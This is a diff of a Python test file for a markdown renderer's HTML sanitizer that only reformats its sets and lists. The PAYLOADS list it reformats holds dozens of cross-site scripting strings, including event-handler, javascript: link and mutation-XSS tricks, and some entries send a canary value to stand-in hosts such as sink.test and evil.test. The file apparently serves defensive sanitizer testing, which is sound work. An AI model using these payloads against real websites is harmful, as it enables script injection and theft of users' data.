@@ -11,18 +11,46 @@ from hypothesis import strategies as st
 from apps.core.markdown import render, split_sealed
 
 SAFE_HREF = re.compile(r"(https?://|mailto:|#cite-\d{1,3}$)", re.IGNORECASE)
-HARMLESS = {"a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol"} | {
-    "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
-}  # fmt: skip
+HARMLESS = {
+    "a",
+    "blockquote",
+    "br",
+    "code",
+    "del",
+    "div",
+    "em",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "hr",
+    "li",
+    "ol",
+} | {
+    "p",
+    "pre",
+    "s",
+    "span",
+    "strong",
+    "table",
+    "tbody",
+    "td",
+    "th",
+    "thead",
+    "tr",
+    "ul",
+}
 PAYLOADS = [
     "<script>window.__x=1</script>",
     "<img src=x onerror=window.__x=1>",
     "<svg/onload=window.__x=1>",
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
     "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<a href=\"javascript:alert(1)\">x</a>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<a href="javascript:alert(1)">x</a>',
     "[x](javascript:alert(1))",
     "[x](JaVaScRiPt:alert(1))",
     "[x](java\nscript:alert(1))",
@@ -38,33 +66,33 @@ PAYLOADS = [
     "[x]( javascript:alert(1) 'title')",
     "![](http://sink.test/?q=CANARY)",
     "![a](data:image/svg+xml;base64,PHN2Zz4=)",
-    "![x\" onerror=\"alert(1)](http://a.test/x.png)",
+    '![x" onerror="alert(1)](http://a.test/x.png)',
     "[x][r]\n\n[r]: http://sink.test/?q=CANARY",
     "[x]\n\n[x]: javascript:alert(1)",
     "<javascript:alert(1)>",
-    "<http://a.test/?\"onmouseover=alert(1)>",
+    '<http://a.test/?"onmouseover=alert(1)>',
     "http://sink.test/?q=CANARY",
     "`<img src=x onerror=alert(1)>`",
     "```html\n<script>alert(1)</script>\n```",
-    "```\"><img src=x onerror=alert(1)>\nx\n```",
+    '```"><img src=x onerror=alert(1)>\nx\n```',
     "| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>x</b> |",
     "# <style>@import 'http://sink.test/'</style>",
-    "<div style=\"background:url(http://sink.test/)\">x</div>",
+    '<div style="background:url(http://sink.test/)">x</div>',
     "<video src=http://sink.test/><source onerror=alert(1)></video>",
     "<object data=x></object><embed src=x><base href=http://evil.test/>",
     "<form action=http://evil.test/><input name=q autofocus onfocus=alert(1)><button>x</button></form>",
     "<link rel=stylesheet href=http://sink.test/><meta http-equiv=refresh content=0;url=http://evil.test/>",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "[1](javascript:alert(1))",
-    "[1]\"onclick=alert(1)",
-    "[a](http://a.test/\"onclick=\"alert(1))",
-    "[a](http://a.test/ \"t\\\" onclick=\\\"alert(1)\")",
+    '[1]"onclick=alert(1)',
+    '[a](http://a.test/"onclick="alert(1))',
+    '[a](http://a.test/ "t\\" onclick=\\"alert(1)")',
     "{{ constructor.constructor('alert(1)')() }}",
-    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
+    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
     "<textarea></textarea><img src=x onerror=alert(1)>",
     "\x00<script>alert(1)</script>",
     "\ud800<script>alert(1)</script>",
-]  # fmt: skip
+]
 
 
 class Inspector(HTMLParser):
@@ -197,9 +225,22 @@ def test_it_splits_without_loss_and_never_takes_back(text: str, data: st.DataObj
 
 
 BLOCKS = [
-    "A paragraph with [1].", "# Title", "- a\n- b", "- a\n\n- b", "1. a\n\n   more\n\n2. b", "```py\nx = 1\n\ny = 2\n```", "> quote\n> more",
-    "| a |\n|---|\n| 1 |", "~~~\n```\n\n~~~", "    code\n\n    code", "- x\n\n  ```\n  a\n\n  b\n  ```\n- y", "``` a ` b", "Setext\n===", "***", "中文段落。",
-]  # fmt: skip
+    "A paragraph with [1].",
+    "# Title",
+    "- a\n- b",
+    "- a\n\n- b",
+    "1. a\n\n   more\n\n2. b",
+    "```py\nx = 1\n\ny = 2\n```",
+    "> quote\n> more",
+    "| a |\n|---|\n| 1 |",
+    "~~~\n```\n\n~~~",
+    "    code\n\n    code",
+    "- x\n\n  ```\n  a\n\n  b\n  ```\n- y",
+    "``` a ` b",
+    "Setext\n===",
+    "***",
+    "中文段落。",
+]
 
 
 @given(st.lists(st.sampled_from(BLOCKS), min_size=1, max_size=7), st.data())
